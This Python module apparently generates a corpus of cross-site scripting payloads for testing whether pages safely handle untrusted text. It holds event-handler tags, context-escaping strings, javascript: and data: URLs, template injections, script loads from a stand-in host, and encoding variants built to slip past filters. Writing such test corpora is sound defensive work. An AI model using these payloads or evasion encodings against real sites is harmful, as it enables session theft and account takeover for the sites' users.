"""Texts that become scripts where a page takes text for markup: each would call `hit()`."""

from __future__ import annotations

import html
from urllib.parse import quote

TAGS = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("details open", "ontoggle"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("style", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("marquee", "onstart"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("p style=animation:vanish", "onanimationstart"),
    ("input type=image src=x", "onerror"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("svg><animate dur=1s", "onbegin"),
    ("div contenteditable", "onpointerover"),
)
SHAPES = (
    "<{tag} {on}=hit()>",
    '<{tag} {on}="hit()">',
    "<{tag}\t{on}='hit()'>",
    "<{tag} {ON}=hit()//",
    "\"><{tag} {on}=hit() x='",
    "'><{tag} {on}=hit()>",
    "--><{tag} {on}=hit()><!--",
    "]]><{tag} {on}=hit()>",
    "</script><{tag} {on}=hit()>",
    "</title></textarea></style><{tag} {on}=hit()>",
    "<!--<img title='--><{tag} {on}=hit()>'>",
    '{{@html "<{tag} {on}=hit()>"}}',
)
WHOLE = (
    "<script>hit()</script>",
    "<script src=//elsewhere.invalid/x.js></script>",
    "<script type=module>hit()</script>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<a href=javascript:hit()>look</a>",
    "<a href=' javascript:hit()'>look</a>",
    "<iframe src=javascript:parent.hit()></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    "<object data='data:text/html,<script>parent.hit()</script>'></object>",
    "<embed src='data:text/html,<script>parent.hit()</script>'>",
    "<form action=javascript:hit()><button autofocus>ok</button></form>",
    "<base href=//elsewhere.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<style>@import '//elsewhere.invalid/x.css'</style>",
    "<img src=//elsewhere.invalid/x.png>",
    "<template shadowrootmode=open><img src=x onerror=hit()></template>",
    "{{constructor.constructor('hit()')()}}",
    "{hit()}",
    "${hit()}",
    "<%= hit() %>",
    "javascript:hit()",
    "data:text/html,<script>hit()</script>",
    '";hit();//',
    "');hit();//",
    "`;hit();//",
)
# A name has twenty signs.
NAMES = (
    "<script>hit()//",
    "<svg onload=hit()>",
    "<p onclick=hit()>",
    "'><svg onload=hit()>",
    '"><svg onload=hit()',
    "<b/onfocus=hit()>",
    "<style onload=hit()>",
    "<iframe onload=hit()",
    "<base href=//a.b/>",
    "javascript:hit()",
    "{{hit()}}",
    "${hit()}",
    "{@html hit()}",
    "</script><script>",
    "--><script>hit()",
    "&lt;svg onload=hit()",
    "&#60;script&#62;",
    "%3Cscript%3E",
    "__proto__",
    "constructor",
    "toString",
    "';hit();//",
    '";hit();//',
    "<!--",
)


def disguises(text: str) -> list[str]:
    """The same text in other clothes: somebody may undress it on the way to the page."""
    return [
        text,
        text.swapcase(),
        html.escape(text),
        html.escape(html.escape(text)),
        "".join(f"&#x{ord(sign):x};" for sign in text[:60]),
        quote(text),
        text.replace("<", "\\u003c").replace(">", "\\x3e"),
        text.replace("<", "＜").replace(">", "＞"),
        text.replace("<", "<\u200d"),
        text.replace("=", " = "),
    ]


def payloads() -> list[str]:
    """All of them, each once."""
    tags = [shape.format(tag=tag, on=on, ON=on.upper()) for shape in SHAPES for tag, on in TAGS]
    return list(
        dict.fromkeys([*WHOLE, *tags, *(each for text in WHOLE for each in disguises(text))])
    )
